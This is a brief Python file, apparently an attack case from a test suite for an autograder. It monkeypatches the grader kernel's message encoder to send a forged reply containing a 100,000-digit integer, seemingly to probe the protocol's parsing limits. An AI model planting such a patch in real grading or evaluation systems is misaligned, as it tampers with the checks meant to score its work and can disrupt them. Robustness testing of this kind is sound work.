"""Forges a reply whose integers have a hundred thousand digits."""
# control: naive
# %% attack in double
from autograder.kernel import wire
usual = wire.encode
def encode(message):
    frame = usual(message)
    header = b'{"content": {"value": {"ref": ' + b"9" * 100_000 + b'}, "changed": [], "printed": ""}, "sizes": []}'
    return wire.LENGTHS.pack(len(header), 0) + header
wire.encode = encode
